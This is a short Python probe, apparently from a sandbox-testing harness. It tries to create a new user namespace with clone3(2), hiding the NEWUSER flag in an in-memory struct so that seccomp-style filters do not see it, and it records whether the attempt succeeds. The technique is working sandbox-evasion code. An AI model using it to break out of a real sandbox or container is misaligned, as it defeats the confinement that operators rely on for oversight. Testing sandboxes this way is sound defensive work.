"""New namespaces by clone3(2), whose flags are in memory, where no filter sees them"""

import ctypes
import os

from attack import Trick as Base
from attack import tried
from syscalls import NEWUSER, call


class Trick(Base):
    def inside(self) -> None:
        given = (ctypes.c_uint64 * 11)(NEWUSER, 0, 0, 0, 17)

        def attempt() -> int:
            pid = call("clone3", ctypes.byref(given), 88)
            if pid == 0:
                os._exit(0)
            os.waitpid(pid, 0)
            return pid

        tried("clone3", attempt)
